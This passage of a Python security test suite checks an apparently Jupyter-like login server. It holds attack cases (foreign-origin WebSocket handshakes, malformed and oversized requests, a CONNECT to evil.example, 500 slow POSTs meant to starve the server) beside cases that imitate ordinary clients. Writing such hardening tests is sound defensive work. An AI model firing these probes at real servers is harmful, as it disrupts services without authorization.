    mark=rb"Origin: https://127\.0\.0\.1:",
)
async def near_origins(client: Client) -> Observation:
    """Use the right cookie."""
    observation, session = Observation(), await client.log_in(client.code)
    kernel = await client.open_screen(session)
    observation.facts["kernel"] = bool(kernel)
    for origin in (
        f"https://{client.host}.",
        f"http://x.{client.host}",
        f"http://localhost.:{client.port + 1}",
        "file://",
        f"https://127.0.0.1:{client.port + 1}",
    ):
        answer, connection = await client.open_websocket(
            client.layout.channels.format(kernel=kernel), cookies=session.cookies, origin=origin
        )
        observation.add(answer)
        connection.close()
    return observation


@attack(
    "framing",
    "error pages, redirects and the screen inside another site's frame",
    Expectation(facts={"unguarded": []}),
    mark=rb"GET /no-such-page",
)
async def framed_errors(client: Client) -> Observation:
    """Read the headers against framing and guessing of types on every kind of page."""
    observation, session, unguarded = Observation(), await client.log_in(client.code), []
    for target, cookies in (
        ("/no-such-page", {}),
        ("/", {}),
        (client.layout.screen, session.cookies),
        ("/no-such-page", session.cookies),
    ):
        connection = await client.connect()
        await connection.send(request("GET", target, client.headers(cookies=cookies)))
        answer = await connection.read_answer(5, limit=1000)
        connection.close()
        policy = answer.header("Content-Security-Policy")
        guarded = (
            "frame-ancestors 'none'" in policy or "frame-ancestors 'self'" in policy or answer.header("X-Frame-Options")
        )
        if not guarded or answer.header("X-Content-Type-Options") != "nosniff":
            unguarded.append(target)
    observation.facts["unguarded"] = unguarded
    return observation


add_request(
    "odd_escapes",
    "error pages",
    "broken escapes, 10,000 ranges, dates and tags that are none",
    b"GET /%zz%ff%fe HTTP/1.1\r\nHost: {host}\r\n\r\n",
    GET + b"Range: bytes=" + b",".join(b"%d-%d" % (n, n) for n in range(5000)) + b"\r\n\r\n",
    GET + b"If-Modified-Since: yesterday\r\nIf-None-Match: \xff\r\n\r\n",
    GET + b"Accept-Language: " + b"x;q=nan," * 500 + b"\r\n\r\n",
    POST + b"Content-Length: 9\r\n\r\n%zz=%ff&&",
    statuses=(*REFUSED, 200, 206, 302, 416),
    mark=rb"/%zz%ff%fe",
)
METHODS = (
    b"OPTIONS * HTTP/1.1",
    b"CONNECT evil.example:443 HTTP/1.1",
    b"PROPFIND / HTTP/1.1",
    b"GET {login} HTTP/9.9",
    b"get {login} HTTP/1.1",
    b"HEAD /api/kernels HTTP/1.1",
    b"X" * 3000 + b" / HTTP/1.1",
)
add_request(
    "rare_methods",
    "methods",
    "OPTIONS, CONNECT, PROPFIND, unknown versions and methods",
    *[m + b"\r\nHost: {host}\r\n\r\n" for m in METHODS],
    statuses=(*REFUSED, 204, 302),
    mark=rb"PROPFIND /",
)


@attack(
    "health",
    "the prober asks while 500 posts crawl, by odd methods and with parameters",
    Expectation(at_most={"slowest": 2, "bytes": 200}, facts={"fine": True, "names": False}),
    mark=rb"Content-Length: 9000000",
    visit_after=6,
)
async def health_under_slow_posts(client: Client) -> Observation:
    """Ask once a second for fifteen seconds."""
    observation, connections = Observation(), await client.connect_many(client.many(500))
    for connection in connections:
        await connection.send(
            request("POST", client.layout.login, client.headers(("Content-Length", "9000000"))) + b"x" * 8000
        )
    answers: list[Answer] = []
    for number in range(15):
        answers.append(await client.get(client.layout.health + ("", "?verbose=1&full=true", "?x=../..")[number % 3]))
        await client.pause(1)
    for connection in connections:
        connection.close()
    observation.figures["slowest"] = max(answer.seconds for answer in answers)
    observation.figures["bytes"] = max(len(answer.body) for answer in answers)
    observation.facts["fine"] = all(answer.status in {200, 204} for answer in answers)
    observation.facts["names"] = any(name.encode() in answer.body for name in client.codes for answer in answers)
    return observation


IN = Expectation(facts={"logged in": True})
PAGE = Expectation(statuses=(200,))


@honest(
    "pasted codes",
    "the code is pasted with blanks and a line end around it, and in capitals",
    Expectation(facts={"logged in": 3}),
    mark=rb"code=%20|code=\+",
)
async def pasted_code(client: Client) -> Observation:
    """Codes are copied from mails and papers."""
    observation = Observation()
    codes = (f" {client.code} ", f"{client.code}\r\n", f"\t{client.code}")
    observation.facts["logged in"] = sum([(await client.log_in(code)).is_logged_in for code in codes])
    return observation


@honest("old pages", "the login page stays open for long before the code is typed", IN, mark=rb"code=")
async def login_page_left_open(client: Client) -> Observation:
    """Wait between page and code."""
    observation = Observation()
    _, form, cookies = await client.open_login()
    await client.pause(client.lunch_seconds)
    answer = await client.send_raw(client.build_login(form, cookies, client.code))
    observation.facts["logged in"] = client.read_login(answer, cookies).is_logged_in
    return observation


@honest("tabs", "the login page is open in two tabs; the older one is used", IN, mark=rb"code=")
async def older_login_tab(client: Client) -> Observation:
    """The second page is opened with the first one's cookies."""
    observation = Observation()
    _, first, cookies = await client.open_login()
    _, _, later = await client.open_login(cookies=cookies)
    answer = await client.send_raw(client.build_login(first, later, client.code))
    observation.facts["logged in"] = client.read_login(answer, later).is_logged_in
    return observation


@honest("old proxies", "a proxy that speaks HTTP/1.0 to the server", PAGE, mark=rb"HTTP/1\.0")
async def proxy_of_the_old_protocol(client: Client) -> Observation:
    """Ask with Connection: close."""
    observation = Observation()
    observation.add(
        await client.send_raw(
            request("GET", client.layout.login, client.headers(("Connection", "close")), version="1.0")
        )
    )
    return observation


@honest("probes", "a proxy looks every half second by HEAD and GET while a clinician logs in", IN, mark=rb"HEAD /login")
async def probes_beside_a_login(client: Client) -> Observation:
    """Probe forty times."""
    observation = Observation()

    async def probe():
        for _ in range(20):
            await client.send_raw(request("HEAD", client.layout.login, client.headers()), head_only=True)
            await client.get(client.layout.health)
            await client.pause(0.5)

    task = asyncio.ensure_future(probe())
    await client.pause(3)
    observation.facts["logged in"] = (await client.log_in(client.code)).is_logged_in
    await task
    return observation


@honest(
    "mistypes",
    "ten clinicians behind one address mistype three times each, then all are right",
    Expectation(facts={"logged in": 10}),
    mark=rb"code=",
)
async def ten_who_mistype(client: Client) -> Observation:
    """Each waits two seconds between attempts."""
    observation, codes = Observation(), list(client.codes.values())

    async def try_codes(number):
        for n in range(3):
            await client.log_in(client.wrong_code(number * 3 + n))
            await client.pause(2)
        return (await client.log_in(codes[number % len(codes)])).is_logged_in

    observation.facts["logged in"] = sum(await asyncio.gather(*map(try_codes, range(10))))
    return observation


@honest("stale cookies", "yesterday's session and token are still in the browser", IN, mark=rb"=stale")
async def stale_cookies(client: Client) -> Observation:
    """Log in with outdated values under the right names."""
    observation, first = Observation(), await client.log_in(client.code)
    stale = {name: "2|1:0|10:1700000000|7:x|4:eA==|=stale" for name in first.answer.cookies if name != "_xsrf"}
    observation.facts["logged in"] = (
        await client.log_in(client.code, cookies={**stale, "_xsrf": "2|aa|=stale|1"})
    ).is_logged_in
    return observation


@honest("double clicks", "the button is pressed twice", Expectation(facts={"logged in": 2}), mark=rb"code=")
async def pressed_twice(client: Client) -> Observation:
    """Send the same form twice at once."""
    observation = Observation()
    _, form, cookies = await client.open_login()
    data = client.build_login(form, cookies, client.code)
    answers = await asyncio.gather(client.send_raw(data), client.send_raw(data))
    observation.facts["logged in"] = sum(client.read_login(answer, cookies).is_logged_in for answer in answers)
    return observation


@honest(
    "Back button",
    "the login page is opened while logged in, and the code is sent once more",
    Expectation(statuses=(200, 302, 303)),
    mark=rb"Cookie: ",
)
async def login_page_while_logged_in(client: Client) -> Observation:
    """Neither may be an error."""
    observation, session = Observation(), await client.log_in(client.code)
    observation.add(await client.get(client.layout.login, cookies=session.cookies))
    observation.add((await client.log_in(client.code, cookies=session.cookies)).answer)
    return observation


@honest("bad lines", "the line breaks in the middle of the login; the browser repeats it", IN, mark=rb"code=")
async def repeated_after_a_break(client: Client) -> Observation:
    """Break off three times."""
    observation = Observation()
    _, form, cookies = await client.open_login()
    data = client.build_login(form, cookies, client.code)
    for _ in range(3):
        connection = await client.connect()
        await connection.send(data[:-12])
        await client.pause(0.5)
        connection.reset()
    answer = await client.send_raw(data)
    observation.facts["logged in"] = client.read_login(answer, cookies).is_logged_in
    return observation


@honest("bad lines", "a login's body comes in four pieces with three seconds between", IN, mark=rb"code=")
async def stalling_line(client: Client) -> Observation:
    """A mobile line stalls between cells."""
    observation = Observation()
    _, form, cookies = await client.open_login()
    data, connection = client.build_login(form, cookies, client.code), await client.connect()
    step = len(data) // 4 + 1
    await trickle(connection, [data[n : n + step] for n in range(0, len(data), step)], partial(client.pause, 3))
    observation.facts["logged in"] = client.read_login(await connection.read_answer(), cookies).is_logged_in
    connection.close()
    return observation


@honest("cookies", "a single sign-on's cookie of 6 kB, a long Referer and a long User-Agent", IN, mark=rb"sso=")
async def one_large_cookie(client: Client) -> Observation:
    """Send 9 kB of headers."""
    observation = Observation()
    rows = (("Referer", f"http://{client.host}/login?" + "r" * 2000), ("User-Agent", "Mozilla/5.0 " + "u" * 900))
    observation.facts["logged in"] = (
        await client.log_in(client.code, *rows, cookies={"sso": "eyJ" + "s" * 6000})
    ).is_logged_in
    return observation


@honest(
    "WebSockets",
    "Firefox and a proxy write the upgrade's headers in their own way",
    Expectation(statuses=(101,)),
    mark=rb"keep-alive, Upgrade",
)
async def upgrade_as_firefox_writes_it(client: Client) -> Observation:
    """Open the screen's WebSocket with those headers."""
    observation = Observation()
    rows = (
        ("Connection", "keep-alive, Upgrade"),
        ("Upgrade", "WebSocket"),
        ("Sec-WebSocket-Extensions", "permessage-deflate; client_max_window_bits"),
    )
    _, _, answer, connection = await client.open_channels(*rows)
    observation.add(answer)
    connection.close()
    return observation


@honest(
    "WebSockets",
    "a fast typist: 600 small messages in ten seconds",
    Expectation(facts={"answered": True}),
    mark=rb"kernel_info_request",
)
async def six_hundred_small_messages(client: Client) -> Observation:
    """Send bursts; the connection must stay and answer."""
    observation = Observation()
    _, _, _, connection = await client.open_channels()
    for _ in range(60):
        await connection.send(
            b"".join(frame(2, kernel_message("comm_msg", {"comm_id": "none", "data": {}})) for _ in range(10))
        )
        await client.pause(0.16)
    await connection.send(frame(2, kernel_message("kernel_info_request", {})))
    observation.facts["answered"] = await wait_for_message(connection, b"kernel_info_reply", 60)
    connection.close()
    return observation


@honest("curl", "a program logs in and waits for permission to send the body", IN, mark=rb"Expect: 100-continue")
async def login_with_expect(client: Client) -> Observation:
    """Send the body after the permission, or after a second."""
    observation = Observation()
    _, form, cookies = await client.open_login()
    head, _, body = client.build_login(form, cookies, client.code, ("Expect", "100-continue")).partition(b"\r\n\r\n")
    connection = await client.connect()
    await connection.send(head + b"\r\n\r\n")
    await asyncio.sleep(0.5)
    await connection.send(body)
    observation.facts["logged in"] = client.read_login(await connection.read_answer(), cookies).is_logged_in
    connection.close()
    return observation


@honest("links", "a link from a mail with tracking parameters", IN, mark=rb"utm_source=mail")
async def link_with_parameters(client: Client) -> Observation:
    """Open the login page by it and log in."""
    observation = Observation()
    session = await client.log_in(client.code, query="?next=%2F%3Fcase%3Ddoc2_6&utm_source=mail&fbclid=x")
    observation.facts["logged in"] = session.is_logged_in
    return observation


@honest(
    "several devices",
    "one reviewer at the desk and on a tablet",
    Expectation(facts={"desk": True, "tablet": True}),
    mark=rb"Cookie: ",
)
async def desk_and_tablet(client: Client) -> Observation:
    """Log in twice from two addresses; the first session stays."""
    observation, desk = Observation(), await client.log_in(client.code)
    tablet = await client.log_in(client.code, source="127.0.0.12")
    observation.facts = {"desk": await client.may_enter(desk.cookies), "tablet": await client.may_enter(tablet.cookies)}
    return observation


@honest(
    "Unicode",
    "a note with emoji, right-to-left and combining letters, in two fragments",
    Expectation(facts={"answered": True}),
    mark="шалом".encode(),
)
async def note_in_many_scripts(client: Client) -> Observation:
    """Cut the message in the middle of a letter."""
    observation = Observation()
    _, _, _, connection = await client.open_channels()
    data = kernel_message("kernel_info_request", {}, "шалом 😀 שלום e\u0301 \U0001f469\u200d\U0001f52c " * 1500)
    cut = data.index("😀".encode()) + 2
    await connection.send(frame(2, data[:cut], fin=False) + frame(0, data[cut:]))
    observation.facts["answered"] = await wait_for_message(connection, b"kernel_info_reply")
    connection.close()
    return observation


@honest("browsers' own requests", "icons, password change and prefetching beside a login", IN, mark=rb"change-password")
async def requests_that_browsers_make(client: Client) -> Observation:
    """None of them may count as an attempt, and none may be an error of the server."""
    observation, start = Observation(), time.monotonic()
    for target in (
        "/favicon.ico",
        "/.well-known/change-password",
        "/apple-touch-icon.png",
        "/robots.txt",
        "/manifest.json",
    ) * 4:
        answer = await client.get(target, ("Sec-Purpose", "prefetch"))
        observation.facts["server's error"] = observation.facts.get("server's error", False) or answer.status >= 500
    observation.facts["logged in"] = (await client.log_in(client.code)).is_logged_in
    observation.figures["seconds"] = time.monotonic() - start
    return observation
